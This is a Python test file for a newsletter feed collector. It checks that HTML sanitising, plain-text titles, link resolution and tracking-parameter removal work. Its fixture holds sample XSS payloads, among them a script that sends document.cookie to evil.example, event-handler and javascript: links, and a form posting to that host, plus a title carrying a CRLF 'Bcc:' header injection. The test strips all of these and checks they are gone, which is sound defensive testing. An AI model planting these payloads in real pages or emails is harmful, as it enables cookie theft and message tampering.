"""What reaches an email from a hostile or sloppy feed: sanitised HTML, plain titles, clean URLs."""

from __future__ import annotations

from feedserver import Reply
from hypothesis import given, settings
from hypothesis import strategies as st

from newsletter.collect.clean import (
    clean_url,
    html_to_text,
    plain_line,
    sanitize_html,
    strip_tracking,
)
from tests.fixtures.edge import collect_for

HOSTILE = """<p onclick="steal()">Intro <b>bold</b> &amp; more.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{display:none}</style>
<img src="pic.png" onerror="alert(1)" alt="a picture">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<a href="javascript:alert(document.domain)">click me</a>
<a href="JaVaScRiPt&#58;alert(1)">encoded</a>
<a href="../about?utm_source=rss&amp;id=7">relative</a>
<iframe src="https://evil.example/frame">framed text</iframe>
<form action="https://evil.example"><input name="pw"></form>
<p style="position:fixed">Second paragraph.</p>"""


def test_hostile_entry_is_sanitised_end_to_end(feed_server, make_settings, feeds):
    body = feeds.rss(
        [
            {
                "title": "Hostile <b>entry</b>\r\nBcc: victim@example.com",
                "link": "/posts/hostile?utm_campaign=x&fbclid=abc&page=2#top",
                "content": HOSTILE,
                "description": "short",
            }
        ]
    ).encode()
    url = feed_server.route("/blog/feed.xml", Reply(body=body))
    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
    (item,) = result.items
    html = item.content_html
    lowered = html.lower()
    for bad in ("<script", "document.cookie", "onerror", "onclick", "javascript:", "<iframe",
                "<style", "data:", "<form", "<input", "style=", "framed text"):  # fmt: skip
        assert bad not in lowered, bad
    base = feed_server.base
    assert f'<img src="{base}/blog/pic.png" alt="a picture">' in html
    assert f'<a href="{base}/about?id=7" rel="noopener noreferrer">relative</a>' in html
    assert "<b>bold</b> &amp; more." in html
    # the title is one plain line: nothing can smuggle a header through it
    assert item.title == "Hostile entry Bcc: victim@example.com"
    assert item.url == f"{base}/posts/hostile?page=2#top"
    assert item.summary.startswith("Intro bold & more.\n\n")
    assert "Second paragraph." in item.summary
    assert "document" not in item.summary and "display:none" not in item.summary


def test_relative_links_resolve_against_the_feed_url(feed_server, make_settings, feeds):
    body = feeds.rss(
        [
            {"title": "Relative link entry", "link": "post/1.html", "content": '<a href="x">x</a>'},
            {"title": "Root-relative link", "link": "/root/2"},
            {"title": "Protocol-relative", "link": "//cdn.example/3"},
        ]
    ).encode()
    url = feed_server.route("/news/rss.xml", Reply(body=body))
    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
    urls = {item.title: item.url for item in result.items}
    assert urls == {
        "Relative link entry": f"{feed_server.base}/news/post/1.html",
        "Root-relative link": f"{feed_server.base}/root/2",
        "Protocol-relative": "http://cdn.example/3",
    }
    (first,) = [i for i in result.items if i.title == "Relative link entry"]
    assert f'href="{feed_server.base}/news/x"' in first.content_html


def test_entry_without_any_http_link_is_skipped_with_a_warning(feed_server, make_settings, feeds):
    body = feeds.rss(
        [
            {"title": "No link at all", "guid": "opaque-1"},
            {"title": "Script link", "link": "javascript:alert(1)"},
            {
                "title": "Broken IPv6 link",
                "link": "http://[::1/post",
                "content": '<a href="http://[x">a</a>',
            },
            {"title": "Impossible port", "link": "http://example.com:99999/post"},
            {"title": "Permalink guid", "guid": "https://g.example/p/1"},
            {"title": "Fine", "link": "https://g.example/fine"},
        ]
    ).encode()
    body = body.replace(b'<guid isPermaLink="false">https', b"<guid>https")
    url = feed_server.route("/links.xml", Reply(body=body))
    result = collect_for(make_settings([url]), feeds.day, now=feeds.now)
    assert sorted(i.url for i in result.items) == [
        "https://g.example/fine",
        "https://g.example/p/1",
    ]
    (report,) = result.feeds
    assert report.status == "warning"
    assert "4 entries without an http(s) link skipped" in report.reason
    assert result.ok


def test_sanitize_keeps_the_allow_list_only():
    cleaned = sanitize_html(
        '<h2 id="x" class="c">Head</h2><ul><li>one</li></ul><table><tr><td colspan="2">t</td>'
        '</tr></table><video src="v.mp4">v</video><a href="mailto:a@b.c">m</a>',
        "https://b.example/",
    )
    assert cleaned == (
        '<h2>Head</h2><ul><li>one</li></ul><table><tbody><tr><td colspan="2">t</td></tr>'
        '</tbody></table>v<a href="mailto:a@b.c" rel="noopener noreferrer">m</a>'
    )


def test_text_is_derived_with_paragraphs_and_entities_decoded():
    text = html_to_text("<div>One&nbsp;&amp;&#8203; <i>two</i></div><p>Three\n\n\nlines</p><br>4")
    assert text == "One & two\n\nThree lines\n\n4"
    assert html_to_text("word " * 2000).endswith("…")
    assert len(html_to_text("word " * 2000)) <= 5000


def test_titles_lose_control_and_bidi_characters():
    assert plain_line("Breaking\u202e\u0007 news\u2028here\x00") == "Breaking news here"
    assert plain_line("Tom &amp; Jerry <br> show", is_html=True) == "Tom & Jerry show"
    assert plain_line("x < y and z > w", is_html=False) == "x < y and z > w"


def test_urls_are_normalised_and_tracking_removed():
    assert clean_url("HTTPS://News.Example.COM:443/a?utm_source=x&id=3&UTM_Medium=y#frag") == (
        "https://news.example.com/a?id=3#frag"
    )
    assert clean_url("https://user:pw@evil.example/") == ""
    assert clean_url("ftp://x.example/file") == ""
    assert clean_url("   ") == ""
    assert (
        strip_tracking("https://x.example/?gclid=1&mc_cid=2&q=keep") == "https://x.example/?q=keep"
    )
    assert strip_tracking("https://x.example/?q=a%20b") == "https://x.example/?q=a%20b"
    assert strip_tracking("https://x.example/p?utm_source=a#s") == "https://x.example/p#s"
    assert strip_tracking("https://x.example/?a=1&UTM%5FSOURCE=x&b") == "https://x.example/?a=1&b"
    assert clean_url("http://[2001:db8::1]:8080/a?fbclid=1") == "http://[2001:db8::1]:8080/a"


@settings(max_examples=500, deadline=None)
@given(
    base=st.sampled_from(
        [
            "https://a.example/feed/rss.xml",
            "http://b.example:8080/x/y",
            "https://u:p@C.example",
            "HTTPS://d.example/?q=1#f",
        ]
    ),
    reference=st.text(alphabet="/.?#=&a%:;@ \t\n", max_size=24).map(lambda s: "/" + s),
)
def test_the_root_relative_fast_path_agrees_with_urljoin(base, reference):
    from newsletter.collect.clean import _origin, resolve_link

    assert resolve_link(reference, base, _origin(base)) == resolve_link(reference, base)


@settings(max_examples=500, deadline=None)
@given(
    url=st.text(alphabet="/.?#=&a%:;@[]1 ", max_size=20).map(lambda s: "https://h.example" + s),
    base=st.sampled_from(["https://feed.example/a/b", "http://other.example/"]),
)
def test_an_absolute_link_is_cleaned_as_if_joined_with_the_base(url, base):
    from urllib.parse import urljoin

    from newsletter.collect.clean import _CONTROL

    prepared = _CONTROL.sub("", url.strip()).replace(" ", "%20")  # what clean_url does first
    try:
        joined = urljoin(base, prepared)
    except ValueError:
        joined = ""
    assert clean_url(url, base) == clean_url(joined)
